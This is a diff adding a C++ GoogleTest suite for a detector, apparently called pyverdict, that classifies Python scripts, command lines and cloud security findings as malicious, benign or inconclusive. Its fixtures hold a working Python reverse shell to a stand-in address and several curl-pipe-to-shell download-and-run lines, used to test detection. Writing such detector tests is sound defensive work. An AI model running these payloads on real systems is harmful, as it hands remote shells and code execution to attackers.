@@ -1,0 +1,178 @@
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+
+#include "pyverdict.h"
+
+namespace pyverdict {
+namespace {
+
+using report::Report;
+using verdict::Label;
+
+// A stand-in for what is found: a shell for whoever listens on a TEST-NET address.
+const std::string kReverseShell =
+    "import socket, os, pty\n"
+    "s = socket.socket()\n"
+    "s.connect(('192.0.2.7', 4444))\n"
+    "os.dup2(s.fileno(), 0)\n"
+    "os.dup2(s.fileno(), 1)\n"
+    "os.dup2(s.fileno(), 2)\n"
+    "pty.spawn('/bin/sh')\n";
+
+const std::string kAdministration =
+    "\"\"\"Counts the lines of files.\"\"\"\n"
+    "import argparse\n"
+    "import pathlib\n"
+    "\n"
+    "def main():\n"
+    "    parser = argparse.ArgumentParser(description='count')\n"
+    "    parser.add_argument('paths', nargs='+')\n"
+    "    for path in parser.parse_args().paths:\n"
+    "        print(len(pathlib.Path(path).read_text().splitlines()))\n"
+    "\n"
+    "if __name__ == '__main__':\n"
+    "    main()\n";
+
+Report report_of(std::string_view input, const Options& options = {}) {
+  Analysis analysis = analyze(input, options);
+  EXPECT_EQ(analysis.items.size(), 1u);
+  return analysis.items.front().report;
+}
+
+bool has(const diagnostic::Diagnostics& diagnostics, diagnostic::Code code) {
+  return std::any_of(diagnostics.begin(), diagnostics.end(), [&](const auto& d) { return d.code == code; });
+}
+
+TEST(Analyze, AReverseShellIsMalicious) {
+  const Report report = report_of(kReverseShell);
+  EXPECT_EQ(report.verdict.label, Label::Malicious) << report.verdict.score << " " << report.verdict.summary;
+  EXPECT_EQ(report.verdict.basis, verdict::Basis::Evidence);
+  EXPECT_FALSE(report.verdict.reasons.empty());
+  EXPECT_FALSE(report.techniques.empty());
+  EXPECT_NE(report.verdict.summary.find("192.0.2.7 port 4444"), std::string::npos) << report.verdict.summary;
+  const auto address = std::find_if(report.indicators.begin(), report.indicators.end(),
+                                    [](const auto& i) { return i.value == "192.0.2.7"; });
+  ASSERT_NE(address, report.indicators.end());
+  EXPECT_EQ(address->role, indicator::Role::C2);
+  EXPECT_EQ(address->span.line, 3u);
+  EXPECT_EQ(address->defanged, "192[.]0[.]2[.]7");
+}
+
+TEST(Analyze, AnOrdinaryToolIsBenignAndSaysWhy) {
+  const Report report = report_of(kAdministration);
+  EXPECT_EQ(report.verdict.label, Label::Benign) << report.verdict.summary;
+  EXPECT_LT(report.verdict.score, 0.05);
+  EXPECT_FALSE(report.verdict.counter_evidence.empty());
+}
+
+TEST(Analyze, EvidencePointsToItsBytes) {
+  const Report report = report_of("# été\n" + kReverseShell);
+  ASSERT_FALSE(report.evidence.empty());
+  for (const report::Evidence& evidence : report.evidence) {
+    const std::string& text = *report.layers[evidence.layer].text;
+    ASSERT_LT(evidence.span.start, evidence.span.end);
+    ASSERT_LE(evidence.span.end, text.size());
+    EXPECT_NE(text.find(evidence.snippet.substr(0, 20)), std::string::npos) << evidence.snippet;
+    for (const std::string& id : evidence.techniques) {
+      EXPECT_TRUE(std::any_of(report.techniques.begin(), report.techniques.end(), [&](const auto& t) {
+        return t.id == id;
+      })) << id;
+    }
+  }
+}
+
+TEST(Analyze, CommentsAndDocstringsAreNoEvidence) {
+  const Report report = report_of("\"\"\"" + kReverseShell +
+                                  "\"\"\"\n# os.system('curl http://h.example.invalid | sh')\nx = 1\n");
+  EXPECT_TRUE(report.evidence.empty());
+  EXPECT_TRUE(report.indicators.empty());
+  EXPECT_EQ(report.verdict.label, Label::Benign);
+}
+
+TEST(Analyze, HashesAreThoseOfTheBytesAsGiven) {
+  const Report report = report_of("\xef\xbb\xbfprint('x')\n");
+  EXPECT_EQ(report.input.script.size, 14u);
+  EXPECT_EQ(report.input.script.sha256, "8b29836731ddfffb221f42b63fcf527b0bad7bfdf6bf2643296d85d8e646e019");
+  EXPECT_EQ(report.input.script.encoding, "utf-8-sig");
+}
+
+TEST(Analyze, EncodingsAreSeenThrough) {
+  std::string wide = "\xff\xfe";
+  for (const char c : kReverseShell) {
+    wide += c;
+    wide += '\0';
+  }
+  const Report report = report_of(wide);
+  EXPECT_EQ(report.input.script.encoding, "utf-16-le");
+  EXPECT_EQ(report.verdict.label, Label::Malicious);
+}
+
+TEST(Analyze, ReadsAFinding) {
+  const std::string finding =
+      R"({"finding": {"category": "Execution: Malicious Python executed",
+          "name": "organizations/1/sources/2/locations/global/findings/abc",
+          "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["COMMAND_AND_SCRIPTING_INTERPRETER"],
+                          "additionalTechniques": ["INGRESS_TOOL_TRANSFER"]},
+          "processes": [{"binary": {"path": "/usr/bin/python3"}, "args": ["python3", "/tmp/a.py"],
+            "script": {"path": "/tmp/a.py", "contents": "import os\nos.system('curl http://h.example.invalid/x | sh')\n"}}]},
+          "resource": {"name": "//run.googleapis.com/projects/p/locations/l/services/s"}})";
+  const Report report = report_of(finding);
+  EXPECT_EQ(report.input.kind, report::InputKind::Finding);
+  EXPECT_EQ(report.input.script.path, "/tmp/a.py");
+  ASSERT_TRUE(report.finding.has_value());
+  EXPECT_EQ(report.finding->resource.cloud_run.name, "s");
+  EXPECT_TRUE(std::any_of(report.techniques.begin(), report.techniques.end(), [](const auto& t) {
+    return t.id == "T1059" && t.from == report::TechniqueFrom::Finding;
+  }));
+  EXPECT_GE(report.verdict.score, verdict::kSuspiciousScore);
+}
+
+TEST(Analyze, ReadsACommandLine) {
+  const Report report =
+      report_of("python3 -c \"import os; os.system('curl http://h.example.invalid/x | sh')\"");
+  EXPECT_EQ(report.input.kind, report::InputKind::Command);
+  EXPECT_GE(report.verdict.score, verdict::kSuspiciousScore);
+}
+
+TEST(Analyze, SaysWhenThereIsTooLittle) {
+  EXPECT_EQ(report_of("").verdict.label, Label::Inconclusive);
+  EXPECT_EQ(report_of("import os\nx = [1, 2").verdict.label, Label::Inconclusive);
+  const Report binary = report_of(std::string("\x7f"
+                                              "ELF\x02\x01\x01\0\0\0\0\0\0\0",
+                                              14) +
+                                  std::string(200, '\0'));
+  EXPECT_EQ(binary.verdict.label, Label::Inconclusive);
+  EXPECT_TRUE(has(binary.diagnostics, diagnostic::Code::BinaryInput));
+}
+
+TEST(Analyze, SaysWhatItLeftOut) {
+  Options options;
+  options.limits.max_input_bytes = 20;
+  EXPECT_TRUE(has(report_of(kReverseShell, options).diagnostics, diagnostic::Code::InputTooLarge));
+  options = {};
+  options.limits.max_evidence = 1;
+  EXPECT_TRUE(
+      has(report_of(kReverseShell + kReverseShell, options).diagnostics, diagnostic::Code::TooMuchEvidence));
+}
+
+TEST(Analyze, AForcedFindingThatIsNoneIsADiagnostic) {
+  Options options;
+  options.as = As::Finding;
+  const Report report = report_of("{\"a\": 1}", options);
+  EXPECT_TRUE(has(report.diagnostics, diagnostic::Code::NotAFinding));
+  EXPECT_EQ(report.verdict.label, Label::Inconclusive);
+}
+
+TEST(Analyze, IsDeterministic) {
+  EXPECT_EQ(report::to_json(report_of(kReverseShell)), report::to_json(report_of(kReverseShell)));
+}
+
+TEST(Features, FitTheirNames) {
+  const Analysis analysis = analyze(kReverseShell);
+  EXPECT_EQ(analysis.items.front().features.size(), verdict::feature_names().size());
+}
+
+}  // namespace
+}  // namespace pyverdict
